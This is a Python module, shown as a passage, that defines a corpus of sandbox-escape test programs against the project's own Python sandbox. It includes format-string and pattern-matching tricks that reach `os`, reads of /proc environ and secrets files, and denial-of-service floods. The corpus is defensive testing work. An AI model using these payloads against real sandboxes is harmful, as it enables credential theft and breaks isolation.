"""An attack corpus against the sandbox, as data: test_attacks.py runs it on a real mesh and
bench/sandbox_attacks.py runs it through other Python sandboxes too.

Every attack is a program an attacker could send, grouped by what it tries (CLASSES). Programs
that try to *obtain* something put it in their result (or print it, or send it to a host), so an
open door shows in the run's output: a canary secret, or a sight only a forbidden object gives
(a foreign module's repr, FORBIDDEN_SIGHTS: a frame, the runtime's own objects). The attacks
name the secrets they look for by the environment variables the harness plants them in
(SANDBOX_SECRET_VARIABLES, ROUTER_SECRET_VARIABLES); the values are random per run and only the
harness knows them.

Conventions of the code, so each attack is short:
- `bind(template)` binds `f` to `template.format` through a keyword sub-pattern of a `match`
  class pattern, which reads the attribute in C, where no run-time check sees it;
- the templates reach `os` from the globals of functions the program can hold: `random`'s
  methods (their module imports `os as _os`), the runtime's `print` and `json.loads` (defined
  in the child's runtime module, which imports `os`), and the program's own functions (whose
  globals hold the runtime's hooks).
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Literal, get_args

Klass = Literal[
    "secrets",
    "attribute-doors",
    "never-ending",
    "harm-next",
    "output-flood",
    "imports",
    "builtins",
    "subclass-walks",
    "frames",
    "resources",
    "host-smuggling",
    "replay-poisoning",
    "cross-run",
]
CLASSES: tuple[Klass, ...] = get_args(Klass)

# How the client of AgentService.Run answers host calls (ignored by runs without client calls):
# honest: at once, with HOST_FUNCTIONS' value; silent: never; wrong-id: under another call's id;
# duplicate: twice; early: also with made-up answers to calls not made yet; cancel: cancels the
# run at the first call; half-close: ends its side of the stream at once; huge: with a 7 MiB
# string; deep: with a list nested 150 deep (beyond protobuf's parse limit).
Client = Literal[
    "honest", "silent", "wrong-id", "duplicate", "early", "cancel", "half-close", "huge", "deep"
]

# The modules the dialect pre-imports, which attacks use without importing them (another
# sandbox's program has to import them first).
MODULES = (
    "json",
    "math",
    "re",
    "datetime",
    "itertools",
    "collections",
    "statistics",
    "random",
    "string",
    "functools",
    "operator",
    "decimal",
    "fractions",
    "textwrap",
)

# The variables the harness plants canary secrets in: the sandbox service's environment, the
# router's environment, and a provider secret in a file the sandbox service reads at start-up
# (its config file, GENMESH_CONFIG, names it as `secrets_file`).
SANDBOX_SECRET_VARIABLES = ("GENMESH_API_KEY", "GENMESH_INTERNAL_KEY", "GENMESH_SECRET_UPSTREAM")
ROUTER_SECRET_VARIABLES = ("GENMESH_SECRET_ROUTER",)

# What only a forbidden object shows: a module other than the dialect's (whose views print as
# "<module 'json'>"), frames, code and tracebacks, the runtime's own objects, the real builtins
# or the environment.
FOREIGN_MODULE = re.compile(r"<module '(?!(?:" + "|".join(MODULES) + r")')[^']*'")
FORBIDDEN_SIGHTS = (
    "<frame at ",
    "<code object ",
    "<traceback object",
    "<cell at ",
    "environ({",
    "'__builtins__': ",
    "<built-in function open>",
    "<built-in function eval>",
    "<built-in function exec>",
    "<built-in function __import__>",
    "<built-in function getattr>",
    "__subclasses__ of type",
    "<class 'object'>",
    "<function call at",
    "<function resolve at",
    "Run object at",
    "'t': 'start'",
)


@dataclass(frozen=True)
class Limits:
    """The limits an attack asks for (None: the service's ceiling)."""

    wall_ms: int | None = 2000
    cpu_ms: int | None = 1000
    memory_bytes: int | None = 256 << 20
    output_bytes: int | None = 64 << 10
    calls: int | None = 100


DEFAULT_LIMITS = Limits()
# Floods need the service's own output ceiling, not a lowered one.
FLOOD_LIMITS = Limits(wall_ms=3000, output_bytes=None)
NOTHING: Any = object()  # an `expect` that is not set


@dataclass(frozen=True)
class Attack:
    """One attack. `code` is the program; the rest says how it is sent and what it must not get.

    - `evidence`: more sights (beside FORBIDDEN_SIGHTS and the canaries) that mean it got out;
    - `expect`: when set, a value result must equal it (a confused host protocol would change it);
    - `after`: a program run before and after the attack, whose outcome must not change;
    - `client_functions`/`client`: the run goes through AgentService.Run and the client answers
      its host calls that way (see Client);
    - `replay`: the text of a crafted call-log file, fed to `genmesh sandbox replay`, whose
      program is `code`;
    - `peers`: False when the attack is about genmesh's own protocol and means nothing in another
      sandbox.
    """

    name: str
    klass: Klass
    goal: str
    code: str
    evidence: tuple[str, ...] = ()
    expect: Any = NOTHING
    after: str = ""
    client_functions: str = ""
    client: Client = "honest"
    limits: Limits = DEFAULT_LIMITS
    globals: Mapping[str, Any] = field(default_factory=dict)
    library: str = ""
    replay: str = ""
    peers: bool = True

    @property
    def streams(self) -> bool:
        """Whether the run needs a client answering host calls (AgentService.Run)."""
        return bool(self.client_functions) or self.client != "honest"


# The client's side of the host functions that attacks declare with STUBS: an ordinary lookup,
# an echo of keyword arguments, and two that answer with values meant to trip the program up.


def host_fetch(key: Any = None) -> Any:
    return {"key": key}


def host_echo(**kw: Any) -> Any:
    return kw


def host_template() -> Any:
    return "{0.__globals__[_os]}"


def host_evil() -> Any:
    return {"__class__": "x", "format": "{0.__globals__[_os]}", "keys": "shadow"}


HOST_FUNCTIONS = {
    "fetch": host_fetch,
    "echo": host_echo,
    "template": host_template,
    "evil": host_evil,
}
STUBS = "def fetch(key=None): ...\ndef echo(**kw): ...\ndef template(): ...\ndef evil(): ...\n"


def bind(template: str, method: str = "format") -> str:
    """Code binding `f` to `template.<method>` without a call the runtime could check."""
    return f"match {template!r}:\n    case str({method}=f):\n        pass\n"


def env(variable: str, module: str = "_os") -> str:
    """A template that reads `variable` from the environment through `{0}`'s globals."""
    return f"{{0.__globals__[{module}].environ[{variable}]}}"


OS_VIA_RANDOM = "{0.__globals__[_os]}"
# From one of the program's own functions: its globals hold the runtime's call hook.
OS_VIA_PROGRAM = "{0.__globals__[__call].__globals__[os]}"
KEY = "GENMESH_API_KEY"
UPSTREAM = "GENMESH_SECRET_UPSTREAM"
INTERNAL = "GENMESH_INTERNAL_KEY"


def call_log(code: str, calls: list[dict[str, Any]] | None = None, **extra: Any) -> str:
    """The JSON of a call log whose program is `code`, as `genmesh agent run --json` writes it."""
    program: dict[str, Any] = {"code": code, "limits": {"wallTime": "2s", "cpuTime": "1s"}}
    program.update(extra.pop("program", {}))
    return json.dumps({"call_log": {"program": program, "calls": calls or [], **extra}})


def record(call_id: int, name: str, value: Any, arguments: dict[str, Any] | None = None) -> Any:
    """One logged host call and its answer."""
    return {
        "call": {"callId": call_id, "name": name, "arguments": arguments or {}},
        "result": {"callId": call_id, "value": value},
    }


def _secrets() -> list[Attack]:
    a: Klass = "secrets"
    leak_random = bind(env(KEY))
    return [
        Attack(
            "env-key-user-string",
            a,
            "read the service's API key through a wrapper class whose format is Python code",
            f"collections.UserString({env(KEY)!r}).format(random.seed)",
        ),
        Attack(
            "env-internal-key-format-map",
            a,
            "read the router-to-sandbox key through UserString.format_map",
            f"collections.UserString('{{f.__globals__[_os].environ[{INTERNAL}]}}')"
            ".format_map({'f': random.shuffle})",
        ),
        Attack(
            "env-upstream-secret-map",
            a,
            "read a provider secret with a format method fetched by a match pattern, called by map",
            bind(env(UPSTREAM)) + "list(map(f, [random.choice]))",
        ),
        Attack(
            "env-dump-partial",
            a,
            "dump the whole environment through functools.partial",
            bind("{0.__globals__[_os].environ}") + "functools.partial(f, random.seed)()",
        ),
        Attack(
            "env-bytes-operator-call",
            a,
            "read the environment as bytes (os.environb) through operator.call",
            bind("{0.__globals__[_os].environb}") + "operator.call(f, random.random)",
        ),
        Attack(
            "env-runtime-print-starmap",
            a,
            "read the key from the runtime module's globals, through the program's print",
            bind(env(KEY, "os")) + "list(itertools.starmap(f, [(print,)]))",
        ),
        Attack(
            "env-program-function-decorator",
            a,
            "read the key from a decorator: the runtime never sees the decorator's call",
            bind(f"{{0.__globals__[__call].__globals__[os].environ[{KEY}]}}")
            + "@f\ndef g():\n    pass\ng",
        ),
        Attack(
            "env-sorted-key-side-channel",
            a,
            "learn the key one comparison at a time from the order sorted(key=) puts things in",
            leak_random
            + "def mimic(text):\n"
            + f"    return {{'__globals__': {{'_os': {{'environ': {{{KEY!r}: text}}}}}}}}\n"
            + "def below(guess):\n"
            + "    m = mimic(guess)\n"
            + "    return sorted([m, random.seed], key=f)[0] is m\n"
            + "def at_most(guess):\n"
            + "    return sorted([random.seed, mimic(guess)], key=f)[0] is random.seed\n"
            + "known = ''\n"
            + "while not at_most(known) and len(known) < 80:\n"
            + "    lo, hi = 32, 126\n"
            + "    while lo < hi:\n"
            + "        mid = (lo + hi + 1) // 2\n"
            + "        if below(known + chr(mid)):\n"
            + "            lo = mid\n"
            + "        else:\n"
            + "            hi = mid - 1\n"
            + "    known += chr(lo)\n"
            + "known",
        ),
        Attack(
            "env-through-print",
            a,
            "smuggle the key out in a printed line rather than the result",
            f"print(collections.UserString({env(KEY)!r}).format(random.seed))\n1",
        ),
        Attack(
            "env-through-error",
            a,
            "smuggle the key out in an error message",
            f"raise ValueError(collections.UserString({env(KEY)!r}).format(random.seed))",
        ),
        Attack(
            "env-through-host-call",
            a,
            "send the key to a host function, so it lands in the call log and the echo",
            f"generate_text(collections.UserString({env(UPSTREAM)!r}).format(random.seed))",
        ),
        Attack(
            "env-raw-data",
            a,
            "read the environment's underlying bytes mapping (os.environ._data)",
            bind("{0.__globals__[_os].environ._data}") + "list(map(f, [random.seed]))",
        ),
        Attack(
            "file-config-path",
            a,
            "learn where the service's config (and so its secrets file) lives",
            bind("{0.__globals__[_os].environ[GENMESH_CONFIG]}") + "list(map(f, [random.seed]))",
            evidence=("mesh.yaml",),
        ),
        Attack(
            "file-proc-environ",
            a,
            "read the process environment from /proc",
            "open('/proc/self/environ', 'rb').read()",
        ),
        Attack(
            "file-secrets-from-config",
            a,
            "read the secrets file the config names",
            "cfg = open(os.environ['GENMESH_CONFIG']).read()\n"
            "path = re.search('secrets_file: (.*)', cfg).group(1)\n"
            "open(path).read()",
        ),
        Attack(
            "file-proc-parent-environ",
            a,
            "read the sandbox service's environment through /proc/<parent>",
            "open('/proc/' + str(os.getppid()) + '/environ').read()",
        ),
        Attack(
            "memory-zygote-modules",
            a,
            "list what the pre-warmed parent has in memory (sys.modules)",
            bind("{0.__globals__[sys].modules}") + "list(map(f, [print]))",
        ),
        Attack(
            "router-error-binding",
            a,
            "make the router fail a server function and echo what it knows in the message",
            "r = generate_text('x', binding='no-such-binding')\n"
            "try:\n    r.upper()\nexcept HostError as e:\n    r = str(e)\nr",
        ),
        Attack(
            "router-error-transcribe",
            a,
            "make the router fail decoding audio and echo its state",
            "r = transcribe('%%% not base64 %%%')\n"
            "try:\n    r.upper()\nexcept HostError as e:\n    r = str(e)\nr",
        ),
        Attack(
            "router-error-image",
            a,
            "make the router fail an image request with impossible parameters",
            "r = generate_image('x', steps=-1, seed=-1, binding='')\n"
            "try:\n    len(r)\nexcept HostError as e:\n    r = str(e)\nr",
        ),
    ]


def _door(name: str, goal: str, code: str, **kw: Any) -> Attack:
    return Attack(name, "attribute-doors", goal, code, **kw)


def _doors() -> list[Attack]:
    reach = bind(OS_VIA_RANDOM)
    return [
        _door(
            "user-string-format",
            "format through collections.UserString, whose method is plain Python",
            f"collections.UserString({OS_VIA_RANDOM!r}).format(random.seed)",
        ),
        _door(
            "user-string-format-map",
            "format_map through collections.UserString",
            "collections.UserString('{x.__globals__[_os]}').format_map({'x': random.seed})",
        ),
        _door(
            "user-string-unbound-format",
            "the wrapper class's format fetched from the class and called with an instance",
            "collections.UserString.format("
            f"collections.UserString({OS_VIA_RANDOM!r}), random.seed)",
        ),
        _door(
            "user-string-derived",
            "format on a UserString returned by another wrapper method",
            f"collections.UserString({OS_VIA_RANDOM.upper()!r}).lower().format(random.seed)",
        ),
        _door("map", "a format method called by map", reach + "list(map(f, [random.seed]))"),
        _door(
            "partial",
            "a format method called by partial",
            reach + "functools.partial(f)(random.seed)",
        ),
        _door("operator-call", "operator.call", reach + "operator.call(f, random.seed)"),
        _door(
            "starmap", "itertools.starmap", reach + "list(itertools.starmap(f, [(random.seed,)]))"
        ),
        _door(
            "accumulate",
            "itertools.accumulate",
            bind(OS_VIA_RANDOM + "{1}") + "list(itertools.accumulate([random.seed, 1], f))",
        ),
        _door(
            "groupby-key",
            "itertools.groupby's key, whose results it hands back",
            reach + "[k for k, g in itertools.groupby([random.seed], key=f)]",
        ),
        _door(
            "reduce",
            "functools.reduce",
            bind(OS_VIA_RANDOM + "{1}") + "functools.reduce(f, [random.seed, 1])",
        ),
        _door("lru-cache", "functools.lru_cache", reach + "functools.lru_cache()(f)(random.seed)"),
        _door("cache", "functools.cache", reach + "functools.cache(f)(random.seed)"),
        _door(
            "recursive-repr",
            "functools.recursive_repr's wrapper",
            reach + "functools.recursive_repr()(f)(random.seed)",
        ),
        _door(
            "generic-alias",
            "calling a types.GenericAlias calls its origin",
            reach + "functools.GenericAlias(f, ())(random.seed)",
        ),
        _door("json-default", "json.dumps(default=)", reach + "json.dumps(random.seed, default=f)"),
        _door(
            "json-cls",
            "json.dumps(cls=) with a factory whose product's encode is a Dict key",
            reach + "json.dumps(random.seed, cls=lambda **options: {'encode': f})",
        ),
        _door(
            "re-sub-callable",
            "re.sub with a callable replacement",
            reach + "re.sub('x', functools.partial(f, random.seed), 'x')",
        ),
        _door(
            "re-scanner",
            "re.Scanner calls its actions with the scanner, a Python object",
            bind("{0.scan.__func__.__globals__[enum]}{1}") + "re.Scanner([('x', f)]).scan('x')",
        ),
        _door(
            "iter-callable",
            "iter(callable, sentinel) calls its callable",
            reach + "next(iter(functools.partial(f, random.seed), None))",
        ),
        _door(
            "defaultdict-factory",
            "a defaultdict's factory, called on a missing key",
            reach + "d = collections.defaultdict(functools.partial(f, random.seed))\nd['x']",
        ),
        _door(
            "decorator",
            "a decorator is applied without a call node",
            bind(OS_VIA_PROGRAM) + "@f\ndef g():\n    pass\ng",
        ),
        _door(
            "format-map-method",
            "format_map fetched by a match pattern",
            bind("{x.__globals__[_os]}", "format_map") + "list(map(f, [{'x': random.seed}]))",
        ),
        _door(
            "percent-mapping",
            "printf-style formatting with a mapping reads keys, not attributes",
            "'%(__globals__)s' % {'__globals__': random.seed}",
        ),
        _door(
            "template-string",
            "string.Template substitutes names, not attribute paths",
            "string.Template('$x ${y}').substitute(x=random.seed, y=print)",
        ),
        _door(
            "template-pattern-rewrite",
            "rewrite string.Template's pattern to accept dotted paths",
            "string.Template.idpattern = '[a-z_.]+'\n"
            "string.Template('$x.__globals__').substitute(x=random.seed)",
        ),
        _door(
            "fstring-spec-template",
            "an f-string spec that is itself a format template",
            "spec = '{0.__globals__}'\nf'{random.seed:{spec}}'",
        ),
        _door(
            "format-builtin-spec",
            "format() with a template as its spec",
            "format(random.seed, '{0.__globals__[_os]}')",
        ),
        _door(
            "format-bracket-dot",
            "an attribute hidden after an index in the template",
            "'{0[0].__globals__[_os]}'.format([random.seed])",
        ),
        _door(
            "format-spec-nested-field",
            "an attribute path in a nested replacement field of the spec",
            "'{0:{1.__globals__[_os]}}'.format(1, random.seed)",
        ),
        _door(
            "match-positional-namedtuple",
            "a positional class pattern reads __match_args__ attributes",
            "P = collections.namedtuple('P', ['format'])\n"
            "match P('{0}'):\n    case P(f):\n        pass\nf",
        ),
        _door(
            "match-keyword-dunder",
            "a keyword pattern naming a dunder attribute",
            "match random.seed:\n    case object(__globals__=g):\n        pass\ng",
        ),
        _door(
            "match-keyword-mro",
            "a keyword pattern naming an internal attribute",
            "match 1:\n    case int(mro=m):\n        pass\nm",
        ),
        _door(
            "match-dotted-class",
            "a class pattern whose class is a module member",
            "match decimal.Decimal(1):\n    case decimal.Decimal(real=r):\n        pass\nr",
        ),
        _door(
            "attrgetter-reach",
            "operator.attrgetter, hidden from the view, by another name",
            "g = operator.attrgetter\ng('__globals__')(random.seed)",
        ),
        _door(
            "methodcaller-reach",
            "operator.methodcaller through the statistics module's imports",
            "statistics.methodcaller('format', random.seed)('{0.__globals__}')",
        ),
        _door(
            "dict-getattr-globals",
            "the dialect Dict's __getattr__ is runtime code whose globals hold os",
            "collections.UserString('{0.__getattr__.__globals__[os]}').format({})",
        ),
        _door(
            "dict-class-method-hook",
            "replace a method of the dialect's Dict class, which the runtime calls itself",
            "seen = []\n"
            "dict.get = lambda self, key, default=None: seen.append(repr(self)) or 'hooked'\n"
            "r = generate_text('x')\nr.upper()\nseen",
        ),
        _door(
            "pending-in-deque",
            "a pending host value inside a container the runtime does not look into",
            "p = template()\n"
            "for t in {(p,)}:\n    pass\n"
            "d = collections.deque()\n"
            "d.extend({t})\n"
            "collections.UserString('{0[0][0]._get.__globals__[os]}').format(d)",
            client_functions=STUBS,
        ),
        _door(
            "pending-template-from-host",
            "a format template supplied by the host, bound through a match pattern",
            "match template():\n    case str(format=f):\n        pass\nlist(map(f, [random.seed]))",
            client_functions=STUBS,
        ),
        _door(
            "host-dict-format-key",
            "a host value with a 'format' key read as an attribute",
            "e = evil()\nlist(map(e.format.format, [random.seed]))",
            client_functions=STUBS,
        ),
        _door(
            "exception-traceback",
            "an exception's traceback reaches the program's frame and its globals",
            "try:\n    1 / 0\nexcept ZeroDivisionError as e:\n"
            "    r = collections.UserString("
            "'{0.__traceback__.tb_frame.f_globals[__call].__globals__[os]}').format(e)\nr",
        ),
        _door(
            "exception-context",
            "the exception being handled when another one was raised",
            "try:\n    try:\n        1 / 0\n    except ZeroDivisionError:\n        [][1]\n"
            "except IndexError as e:\n"
            "    r = collections.UserString('{0.__context__.__traceback__.tb_frame}').format(e)\nr",
        ),
        _door(
            "exception-cause",
            "an exception's explicit cause",
            "try:\n    raise ValueError('a') from KeyError('b')\nexcept ValueError as e:\n"
            "    r = collections.UserString('{0.__cause__.__class__.__mro__}').format(e)\nr",
        ),
        _door(
            "exception-group",
            "an exception inside an except* group",
            "try:\n    1 / 0\nexcept* ZeroDivisionError as eg:\n"
            "    r = collections.UserString("
            "'{0.exceptions[0].__traceback__.tb_frame}').format(eg)\nr",
        ),
        _door(
            "exception-obj",
            "AttributeError.obj hands back the object whose attribute was missing",
            "try:\n    print.missing\nexcept AttributeError as e:\n"
            "    r = collections.UserString('{0.obj.__globals__[os]}').format(e)\nr",
        ),
        _door(
            "generator-frame",
            "a generator's frame and its globals",
            "g = (x for x in [1])\n"
            "collections.UserString('{0.gi_frame.f_globals[__call].__globals__[os]}').format(g)",
        ),
        _door(
            "generator-code",
            "a generator's code object",
            "g = (x for x in [1])\ncollections.UserString('{0.gi_code}').format(g)",
        ),
        _door(
            "async-generator-expression",
            "an async generator expression outside async code",
            "g = (x async for x in json)\ncollections.UserString('{0.ag_frame}').format(g)",
        ),
        _door(
            "partialmethod-class-attribute",
            "a partialmethod set on a wrapper class binds the instance when read",
            bind("{0.__init__.__globals__[_sys].modules[os]}")
            + "collections.UserList.leak = functools.partialmethod(f)\n"
            "collections.UserList().leak()",
        ),
        _door(
            "partialmethod-on-dict",
            "a partialmethod set on the dialect's Dict class",
            bind("{0.__getattr__.__globals__[os]}")
            + "dict.leak = functools.partialmethod(f)\n{}.leak()",
        ),
        _door(
            "builtin-method-class-attribute",
            "a bound format method stored on a class and called through an instance",
            bind("{0.__init__.__globals__[_sys].modules[os]}")
            + "collections.UserList.leak = f\ncollections.UserList().leak()",
        ),
        _door(
            "cached-property",
            "functools.cached_property calls its function with the instance",
            bind("{0.__init__.__globals__[_sys].modules[os]}")
            + "collections.UserList.leak = functools.cached_property(f)\n"
            "collections.UserList.leak.attrname = 'leak'\ncollections.UserList().leak",
        ),
        _door(
            "total-ordering",
            "functools.total_ordering reads and writes class attributes by name",
            "functools.total_ordering(collections.UserDict)\n"
            "collections.UserString('{0.__ge__.__globals__[_sys]}').format(collections.UserDict)",
        ),
        _door(
            "update-wrapper-reach",
            "functools.update_wrapper copies named attributes, dunders included",
            "w = {}\nfunctools.update_wrapper(w, random.seed, ['__globals__'], [])\nw",
        ),
        _door(
            "duck-typed-template-self",
            "a stdlib method given an attribute dict as self hands its closure to the program",
            "grabbed = []\n"
            "fake = {'pattern': {'sub': lambda convert, text: grabbed.append(convert) or text},"
            " 'template': 'x'}\n"
            "string.Template.substitute(fake, {'k': 'v'})\n"
            "match_object = {'group': lambda name: 'k' if name == 'named' else None}\n"
            "[repr(grabbed[0]), grabbed[0](match_object)]",
        ),
        _door(
            "duck-typed-wrapper-self",
            "a stdlib method whose self is an attribute dict reads private attributes from it",
            "textwrap.TextWrapper.wrap({'width': 1, '_split_chunks': print}, 'a b')",
        ),
        _door(
            "duck-typed-chainmap-self",
            "a stdlib method builds an object of its self's class",
            "collections.ChainMap.new_child({'maps': [random.seed]})",
        ),
        _door(
            "regex-debug-through-map",
            "re.DEBUG (it prints past the output cap) from a host value, through map",
            "flags = fetch(128)\nlist(map(re.compile, ['(a)'], {flags.key}))",
            client_functions=STUBS,
        ),
        _door(
            "exception-args-library",
            "the objects a library puts in the arguments of the exceptions it raises",
            "try:\n    string.Template('$').substitute({})\nexcept ValueError as e:\n"
            "    r = [repr(a) for a in e.args]\nr",
        ),
        _door(
            "guard-at-recursion-limit",
            "forbidden reads at every depth near the recursion limit, where the guard's own "
            "refusal may run out of stack and raise a catchable RecursionError instead",
            "def at_depth(n, action):\n"
            "    if n:\n        return at_depth(n - 1, action)\n    return action()\n"
            "def walk():\n    return '{0.__globals__[_os]}'.format(random.seed)\n"
            "def member():\n    return repr(json.codecs)\n"
            "for action in (walk, member):\n"
            "    for n in range(520, 380, -1):\n"
            "        try:\n            print(at_depth(n, action))\n"
            "        except RecursionError:\n            pass\n"
            "1",
        ),
        _door(
            "cmp-to-key",
            "functools.cmp_to_key calls its function on comparisons",
            bind(OS_VIA_RANDOM + "{1}")
            + "sorted([random.seed, random.seed], key=functools.cmp_to_key(f))",
        ),
    ]


def _never_ending() -> list[Attack]:
    a: Klass = "never-ending"
    big = "1" + "0" * 400
    return [
        Attack("result-int-beyond-double", a, "a result no double can carry", "10 ** 400"),
        Attack("result-int-in-list", a, "a huge int deep in the result", "[1, {'a': [2 ** 1024]}]"),
        Attack(
            "result-int-too-many-digits",
            a,
            "an int whose decimal string Python refuses to build",
            "10 ** 5000",
        ),
        Attack(
            "argument-int-server",
            a,
            "a huge int in a server function's argument",
            "generate_text('x', max_tokens=10 ** 400)",
        ),
        Attack(
            "argument-int-client",
            a,
            "a huge int in a client function's argument",
            "fetch(key=2 ** 1100)",
            client_functions=STUBS,
        ),
        Attack("result-nan", a, "a NaN result", "float('nan')"),
        Attack(
            "result-infinities", a, "infinities deep in the result", "{'a': [float('inf'), -1e999]}"
        ),
        Attack(
            "argument-nan-server",
            a,
            "NaN as a server function's argument",
            "generate_text('x', max_tokens=float('nan'))",
        ),
        Attack("result-surrogate-key", a, "a lone surrogate in a result key", "{'\\ud800': 1}"),
        Attack("result-surrogate-value", a, "a lone surrogate in a result", "['ok', '\\udfff']"),
        Attack(
            "argument-surrogate-key-server",
            a,
            "a lone surrogate in a key of a server function's argument",
            "generate_text('x', binding={'\\udc80': 1})",
        ),
        Attack(
            "argument-surrogate-key-client",
            a,
            "a lone surrogate in a key of a client function's argument",
            "fetch(key={'\\ud800': 'x'})",
            client_functions=STUBS,
        ),
        Attack(
            "argument-surrogate-value-client",
            a,
            "a lone surrogate in a client function's argument",
            "fetch(key='\\udbff')",
            client_functions=STUBS,
        ),
        Attack("print-surrogate", a, "a lone surrogate in a printed line", "print('\\ud800')\n1"),
        Attack(
            "error-surrogate",
            a,
            "a lone surrogate in an error message",
            "raise KeyError('\\ud800')",
        ),
        Attack(
            "stub-default-unhashable",
            a,
            "a stub default that literal_eval rejects with TypeError",
            "def f(x={[]: 1}): ...\n1",
        ),
        Attack(
            "stub-default-set-of-dict",
            a,
            "a client stub default that literal_eval rejects with TypeError",
            "1",
            client_functions="def f(x={{}}): ...\n",
        ),
        Attack(
            "stub-default-bytes",
            a,
            "a client stub default that JSON cannot carry",
            "1",
            client_functions="def f(x=b'x'): ...\n",
        ),
        Attack(
            "stub-default-complex",
            a,
            "a client stub default that JSON cannot carry",
            "f()",
            client_functions="def f(x=1j): ...\n",
        ),
        Attack(
            "stub-default-huge-int",
            a,
            "a stub default beyond the double range, sent when the program calls it",
            f"def f(x={big}): ...\nf()",
        ),
        Attack(
            "library-stub-default",
            a,
            "a library stub default that literal_eval rejects with TypeError",
            "1",
            library="def f(x={[]: 1}): ...\n",
        ),
        Attack(
            "match-dotted-class-compile",
            a,
            "a class pattern the rewrite turns into something compile() refuses",
            "match 1:\n    case json.JSONDecodeError():\n        pass\n1",
        ),
        Attack("source-nul", a, "a NUL byte in the source", "x = 1\n\x00"),
        Attack(
            "start-frame-over-limit",
            a,
            "globals that make the start message larger than a frame",
            "len(blob)",
            globals={"blob": "\u00e9" * 3_000_000},
        ),
        Attack(
            "huge-source",
            a,
            "a program just under the source limit that takes seconds to compile",
            "print(1)\n" * ((1 << 20) // 9 - 16),
        ),
        Attack(
            "result-deep",
            a,
            "a result nested deeper than protobuf parses",
            "x = 1\nfor i in range(90):\n    x = [x]\nx",
        ),
        Attack(
            "argument-deep",
            a,
            "a host call argument nested deeper than protobuf parses",
            "x = 1\nfor i in range(90):\n    x = [x]\nfetch(key=x)",
            client_functions=STUBS,
        ),
    ]


def _harm_next() -> list[Attack]:
    a: Klass = "harm-next"
    return [
        Attack(
            "client-cancels",
            a,
            "cancel the run at its first host call, leaving the child mid-run",
            "r = fetch('a')\nr.key",
            client_functions=STUBS,
            client="cancel",
        ),
        Attack(
            "client-half-closes",
            a,
            "close the client's side of the stream before any call is answered",
            "r = fetch('a')\nr.key",
            client_functions=STUBS,
            client="half-close",
        ),
        Attack(
            "client-silent",
            a,
            "never answer a host call",
            "r = fetch('a')\nr.key",
            client_functions=STUBS,
            client="silent",
        ),
        Attack(
            "timeout-with-calls-in-flight",
            a,
            "hit the wall clock while server calls are still running",
            "rs = [generate_text('x' * i) for i in range(40)]\nwhile True:\n    pass",
        ),
        Attack(
            "child-segfault",
            a,
            "crash the child in C (hashing a tuple nested a million deep)",
            "t = ()\nfor i in range(1000000):\n    t = (t,)\nhash(t)",
            limits=Limits(wall_ms=4000, cpu_ms=3000),
        ),
        Attack(
            "memory-at-result",
            a,
            "fill memory so the runtime itself fails while sending the result",
            "x = ['y' * 100] * (2 * 10 ** 6)\nx",
        ),
        Attack(
            "result-over-message-limit",
            a,
            "a result that fits a frame but, twice in the reply, not a gRPC message",
            "'x' * (9 << 20)",
            limits=Limits(memory_bytes=512 << 20),
        ),
        Attack(
            "error-over-frame-limit",
            a,
            "an error message larger than a frame",
            "raise ValueError('x' * (17 << 20))",
            limits=Limits(memory_bytes=512 << 20),
        ),
        Attack(
            "runtime-dict-broken",
            a,
            "break the Dict class the runtime decodes its messages into",
            "dict.get = None\ndict.items = None\nr = generate_text('x')\nr.upper()",
        ),
        Attack(
            "violation-swallowed",
            a,
            "swallow the guard's stop with return-in-finally and keep going",
            "def f():\n    try:\n        '{0.__class__}'.format(1)\n"
            "    finally:\n        return 'kept'\n[f() for i in range(100)]",
        ),
        Attack(
            "client-functions-parse-load",
            a,
            "client function declarations as large as allowed, parsed by the router and the child",
            "1",
            client_functions="".join(f"def f{i}(x={list(range(40))}): ...\n" for i in range(1500)),
        ),
        Attack(
            "many-stubs",
            a,
            "thousands of host functions, each built into a signature in the child",
            "len([f1, f2, f3])",
            client_functions="".join(f"def f{i}(a, b=1, *c, d=2, **e): ...\n" for i in range(5000)),
        ),
        Attack(
            "memory-near-limit",
            a,
            "hold memory just under the limit so the runtime has none left",
            "x = bytearray(250 << 20)\n[1] * 10",
        ),
    ]


def _floods() -> list[Attack]:
    a: Klass = "output-flood"
    return [
        Attack(
            "million-empty-lines",
            a,
            "a million lines of one byte each: under the byte cap, a frame per line",
            "for i in range(1000000):\n    print()",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "million-newlines-one-print",
            a,
            "a million newlines in one print",
            "print('\\n' * 1000000, end='')",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "numbered-lines",
            a,
            "short numbered lines until the byte cap",
            "for i in range(300000):\n    print(i)",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "separator-lines",
            a,
            "one print whose separator makes a hundred thousand lines",
            "print(*range(100000), sep='\\n')",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "flood-to-streaming-client",
            a,
            "lines a streaming client has to receive one message each",
            "for i in range(200000):\n    print(i)\nfetch('x')",
            client_functions=STUBS,
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "surrogate-lines",
            a,
            "many lines that each need repair",
            "for i in range(100000):\n    print('\\ud800')",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "one-huge-line",
            a,
            "one line just under the byte cap",
            "print('x' * ((1 << 20) - 100))",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "newlines-in-error",
            a,
            "an error message of a million lines",
            "raise ValueError('\\n' * 1000000)",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "flood-with-host-calls",
            a,
            "lines interleaved with host calls",
            "for i in range(30):\n    generate_text(str(i))\n    print('\\n' * 30000, end='')",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "flood-limit-swallowed",
            a,
            "swallow the output limit with return-in-finally and flood again",
            "def f():\n    try:\n        while True:\n            print()\n"
            "    finally:\n        return 'kept'\n[f() for i in range(20)]",
            limits=FLOOD_LIMITS,
        ),
        Attack(
            "wide-characters",
            a,
            "characters that are one code point but two bytes",
            "for i in range(20):\n    print('\\u00e9' * 50000)",
            limits=FLOOD_LIMITS,
        ),
    ]


def _imports() -> list[Attack]:
    a: Klass = "imports"
    return [
        Attack(
            "import-alias", a, "import os under an allowed module's name", "import os as json\njson"
        ),
        Attack(
            "import-relative", a, "a relative import of the runtime", "from . import child\nchild"
        ),
        Attack(
            "import-in-function",
            a,
            "an import hidden in a function body",
            "def f():\n    import subprocess\n    return subprocess\nf()",
        ),
        Attack(
            "import-fullwidth-dunder",
            a,
